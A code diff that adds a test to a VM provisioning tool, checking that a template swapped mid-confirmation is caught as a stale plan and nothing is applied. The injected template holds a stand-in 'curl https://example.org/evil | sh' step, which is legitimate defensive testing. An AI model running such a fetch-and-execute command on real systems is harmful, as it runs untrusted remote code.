@@ -147,6 +147,26 @@ def test_swapped_at_the_prompt(one: Dvm) -> None:
     assert one.calls(changing=True) == []
 
 
+def test_a_template_swapped_at_the_prompt(dvm: Dvm) -> None:
+    text = "images:\n- location: https://example.org/x.qcow2\n  digest: sha256:" + "0" * 64 + "\n"
+    template = dvm.config / "t.yaml"
+    template.write_text(text)
+    template.chmod(0o600)
+    dvm.manifest(f'[vm.app]\ntemplate = "{template}"\n')
+    child = pexpect.spawn(
+        sys.executable, ["-m", "dvm", "apply"], env=dvm.environment, cwd=str(dvm.place), timeout=60, encoding="utf-8"
+    )
+    child.expect("Enter a value: ")
+    template.write_text(text + "provision:\n- script: curl https://example.org/evil | sh\n")
+    child.sendline("yes")
+    child.expect("The plan is stale")
+    child.expect(pexpect.EOF)
+    child.close()
+    assert child.exitstatus == 4
+    assert dvm.calls(changing=True) == []
+    assert dvm.run("apply", "-y").code == 0  # it was not refused for what it is
+
+
 def test_swapped_between_check_and_run(one: Dvm) -> None:
     faults = one.place / "faults.json"
     faults.write_text(json.dumps([{"match": ["create"], "do": "delay", "seconds": 3}]))
